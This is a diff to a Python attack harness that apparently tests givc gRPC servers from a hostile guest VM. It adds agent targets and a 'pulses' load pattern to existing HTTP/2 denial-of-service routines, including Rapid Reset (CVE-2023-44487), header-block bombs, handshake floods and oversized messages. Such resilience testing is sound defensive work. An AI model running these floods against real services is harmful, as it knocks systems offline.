@@ -1,30 +1,74 @@
 # SPDX-License-Identifier: GPL-2.0-or-later
-"""What a hostile guest does to a server of givc: python3 attack.py ATTACK ADDRESS PORT DIRECTORY SECONDS. Runs in a guest of
-a fleet, beside h2raw.py, with the certificates in DIRECTORY; bounded in count and in time. Prints what became of it."""
+"""What a hostile guest does to a server of givc: python3 attack.py ATTACK admin|agent ADDRESS PORT DIRECTORY SECONDS. Runs in a
+guest of a fleet, beside h2raw.py, with the certificates in DIRECTORY; bounded in count and in time. Prints what became of it."""
 import collections
 import contextlib
+import itertools
 import select
 import socket
 import ssl
 import sys
 import time
+import typing
 
 import h2raw
 from h2raw import END_HEADERS, END_STREAM, frame, grpc_headers, grpc_message, hpack
 
-METHODS = ('QueryList', 'Watch', 'GetUnitStatus', 'RegisterService', 'StartVM', 'StartService', 'StartApplication', 'PauseApplication',
-           'ResumeApplication', 'StopApplication', 'Poweroff', 'Reboot', 'Suspend', 'Wakeup', 'SetLocale', 'SetTimezone',
-           'ListGenerations', 'SetGeneration', 'NotifyUser', 'NoSuchMethod')
-OTHERS = ('/admin.FleetService/ManageUnit', '/admin.FleetService/ListUnits', '/admin.FleetService/WatchUnit',
-          '/admin.FleetService/ReadLogs', '/admin.FleetService/Decide', '/access.AccessService/Decide',
-          '/access.AccessService/WatchDecisions')
+
+def field(number, data):
+    """Of a message: text, bytes, or another message."""
+    return bytes([number << 3 | 2]) + (bytes([len(data)]) if len(data) < 128 else bytes([len(data) & 127 | 128, len(data) >> 7])) + data
+
+
+def methods(text):
+    """PACKAGE.Service: Method Method…, one service a line."""
+    lines = (line.split(':') for line in text.strip().splitlines())
+    return tuple(f'/{service.strip()}/{method}' for service, names in lines for method in names.split())
+
+
 # What rules decide about a context as large as fits into one frame: a set, in an order that takes long to sort.
 CONTEXT = b'{"a": [%s]}' % b','.join(b'%d' % (i * 7919 % 3001) for i in range(3000))
-QUESTION = b'\x0a\x01x\x12\x01y\x1a\x01z\x22' + bytes([len(CONTEXT) & 127 | 128, len(CONTEXT) >> 7]) + CONTEXT
+DECIDE = '/access.AccessService/Decide', field(1, b'x') + field(2, b'y') + field(3, b'z') + field(4, CONTEXT)
+
+
+class Target(typing.NamedTuple):
+    methods: tuple
+    query: tuple  # one call that is answered at once, and its request
+    watches: tuple  # likewise, of streams that do not end
+    upload: str  # takes a message of 4 MB
+
+
+TARGETS = {
+    'admin': Target(methods("""
+        admin.AdminService: QueryList Watch GetUnitStatus RegisterService StartVM StartService StartApplication PauseApplication
+        admin.AdminService: ResumeApplication StopApplication Poweroff Reboot Suspend Wakeup SetLocale SetTimezone
+        admin.AdminService: ListGenerations SetGeneration NotifyUser NoSuchMethod
+        admin.FleetService: ManageUnit ListUnits WatchUnit ReadLogs Decide
+        access.AccessService: Decide WatchDecisions"""),
+                    query=('/admin.AdminService/QueryList', b''),
+                    watches=(('/admin.AdminService/Watch', b''),),
+                    upload='/admin.AdminService/StartService'),
+    'agent': Target(methods("""
+        systemd.UnitControlService: StartApplication StartUnit StopUnit KillUnit FreezeUnit UnfreezeUnit GetUnitStatus MonitorUnit
+        systemd.UnitWatchService: WatchUnits
+        systemd.UnitManageService: ManageUnit ListUnits
+        stats.StatsService: GetStats GetSysinfo
+        logs.LogsService: ReadLogs
+        locale.LocaleClient: LocaleSet TimezoneSet
+        grpc.health.v1.Health: Check Watch
+        exec.Exec: RunCommand
+        access.AccessService: Decide WatchDecisions"""),
+                    query=('/systemd.UnitControlService/GetUnitStatus', field(1, b'microvm@app-vm.service')),
+                    watches=(('/systemd.UnitWatchService/WatchUnits', b''), ('/grpc.health.v1.Health/Watch', b''),
+                             ('/logs.LogsService/ReadLogs', field(1, b'givc-ghaf-host.service') + b'\x18\x01'),
+                             ('/systemd.UnitControlService/MonitorUnit', field(1, b'microvm@app-vm.service'))),
+                    upload='/systemd.UnitControlService/StartApplication'),
+}
 
 
 class Attacker:
-    def __init__(self, address, port, directory, seconds):
+    def __init__(self, target, address, port, directory, seconds):
+        self.target = TARGETS[target]
         self.where, self.directory = (address, int(port)), directory
         self.end = time.monotonic() + float(seconds)
 
@@ -91,11 +135,16 @@ class Attacker:
         return 'done'
 
     def handshakes(self):
-        """Whole ones, and nothing after them."""
-        n = 0
-        while self.going():
-            with contextlib.suppress(OSError), self.context().wrap_socket(self.connect()):
-                n += 1
+        """Whole ones, many at a time, and nothing after them. Each is waited for: who hangs up earlier spares the server the
+        judging."""
+        held, n = collections.deque(), 0
+        while held or self.going():
+            with contextlib.suppress(OSError):
+                if self.going():
+                    held.append(self.context().wrap_socket(self.connect()))
+            if len(held) > 30 or not self.going():
+                with contextlib.suppress(OSError, IndexError), held.popleft() as session:
+                    n += bool(session.recv(1))
         return f'{n} handshakes'
 
     def slow_watch(self):
@@ -104,8 +153,8 @@ class Attacker:
         with contextlib.suppress(h2raw.Closed, OSError):
             for _ in range(20):
                 held.append(self.http2((h2raw.INITIAL_WINDOW_SIZE, 0)))
-                for stream in range(1, 401, 2):
-                    held[-1].request(stream, grpc_message(b''), grpc_headers('/admin.AdminService/Watch'))
+                for stream, (path, message) in zip(range(1, 401, 2), itertools.cycle(self.target.watches)):
+                    held[-1].request(stream, grpc_message(message), grpc_headers(path))
         while self.going():
             time.sleep(0.1)
         return f'{len(held)} connections'
@@ -125,7 +174,7 @@ class Attacker:
                 stream, standing = -1, True
                 while standing and self.going():
                     blocks = []
-                    for path in [*(f'/admin.AdminService/{method}' for method in METHODS), *OTHERS]:
+                    for path in self.target.methods:
                         for data in (b'', b'\x0a\x03abc', b'\xff\xff\xff'):
                             stream += 2
                             headers = hpack(*grpc_headers(path))
@@ -137,11 +186,28 @@ class Attacker:
 
     def queries(self):
         """One call again and again, on eight connections at once."""
-        return self.calls('/admin.AdminService/QueryList', b'')
+        return self.calls(*self.target.query)
 
     def questions(self):
         """The same, of one that takes the server's time."""
-        return self.calls('/access.AccessService/Decide', QUESTION)
+        return self.calls(*DECIDE)
+
+    def pulses(self):
+        """Calls that take the server's time, on sixty connections at once, then nothing: who is not busy for long is not known
+        to be."""
+        request, n = hpack(*grpc_headers(DECIDE[0])), 0
+        with contextlib.ExitStack() as stack:
+            connections = [stack.enter_context(self.http2()) for _ in range(60)]
+            for stream in range(1, 1_000_001, 2):
+                for connection in connections:
+                    connection.send(frame(h2raw.HEADERS, END_HEADERS, stream, request),
+                                    frame(h2raw.DATA, END_STREAM, stream, grpc_message(DECIDE[1])))
+                for connection in connections:
+                    n += connection.receive_response(stream)[0]['grpc-status'] == '0'
+                if not self.going():
+                    break
+                time.sleep(0.25)  # the attacker's pace
+        return f'{n} calls'
 
     def calls(self, path, message):
         block, n = hpack(*grpc_headers(path)), 0
@@ -169,7 +235,7 @@ class Attacker:
 
     def rapid_reset(self):
         """CVE-2023-44487."""
-        block = hpack(*grpc_headers('/admin.AdminService/QueryList'))
+        block = hpack(*grpc_headers(self.target.query[0]))
         return self.again_and_again(
             b''.join(frame(h2raw.HEADERS, END_HEADERS, s, block) + h2raw.rst_stream(s) for s in range(1, 8001, 2)))
 
@@ -191,7 +257,7 @@ class Attacker:
         while self.going():
             with contextlib.suppress(h2raw.Closed, OSError), self.http2() as connection:
                 for stream in range(1, 2001, 2):
-                    block = hpack(*grpc_headers('/admin.AdminService/QueryList')) + (bomb if stream == 1 else b'') + b'\xbe' * 60_000
+                    block = hpack(*grpc_headers(self.target.query[0])) + (bomb if stream == 1 else b'') + b'\xbe' * 60_000
                     if not self.going() or not self.pour(connection, frame(h2raw.HEADERS, END_HEADERS | END_STREAM, stream, block)):
                         break
                     count += 1
@@ -208,15 +274,13 @@ class Attacker:
 
     def names(self):
         """Units of its own, more than there is room for."""
-        def field(number, data):
-            return bytes([number << 3 | 2, len(data)]) + data
-
         state, count = field(4, b'active') + field(5, b'running'), 0
         with contextlib.suppress(h2raw.Closed, OSError), self.http2() as connection:
             headers = hpack(*grpc_headers('/admin.AdminService/RegisterService'))
-            while self.going() and count < 20_000:
+            while count < 5000 or (self.going() and count < 20_000):
                 count += 1
-                request = grpc_message(field(1, b'unit-%d.service' % count) + field(2, b'givc-app-vm.service') + b'\x18\x0d' + field(5, state))
+                request = grpc_message(field(1, b'unit-%d.service' % count) + field(2, b'givc-app-vm.service') + b'\x18\x0d' +
+                                       field(5, state))
                 if not self.pour(connection, frame(h2raw.HEADERS, END_HEADERS, 2 * count + 1, headers) +
                                  frame(h2raw.DATA, END_STREAM, 2 * count + 1, request)):
                     break
@@ -227,10 +291,9 @@ class Attacker:
         with contextlib.ExitStack() as stack:
             connections = [stack.enter_context(self.http2()) for _ in range(16)]
             for connection in connections:
-                connection.request(1, grpc_message(b'x' * 100, length=0xFFFFFFFF), grpc_headers('/admin.AdminService/QueryList'))
+                connection.request(1, grpc_message(b'x' * 100, length=0xFFFFFFFF), grpc_headers(self.target.query[0]))
                 for stream in range(3, 23, 2):
-                    connection.request(stream, grpc_message(b'', length=4_000_000), grpc_headers('/admin.AdminService/StartService'),
-                                       end=False)
+                    connection.request(stream, grpc_message(b'', length=4_000_000), grpc_headers(self.target.upload), end=False)
             while self.going():
                 for connection in connections:
                     for stream in range(3, 23, 2):
@@ -262,7 +325,7 @@ class Attacker:
 
             step(session.do_handshake)
             step(session.write, h2raw.PREFACE + h2raw.settings() + frame(
-                h2raw.HEADERS, END_HEADERS | END_STREAM, 1, hpack(*grpc_headers('/admin.AdminService/QueryList'))))
+                h2raw.HEADERS, END_HEADERS | END_STREAM, 1, hpack(*grpc_headers(self.target.query[0]))))
             step(session.read, 1)
         for _ in range(50):
             with contextlib.suppress(OSError), self.connect() as raw:
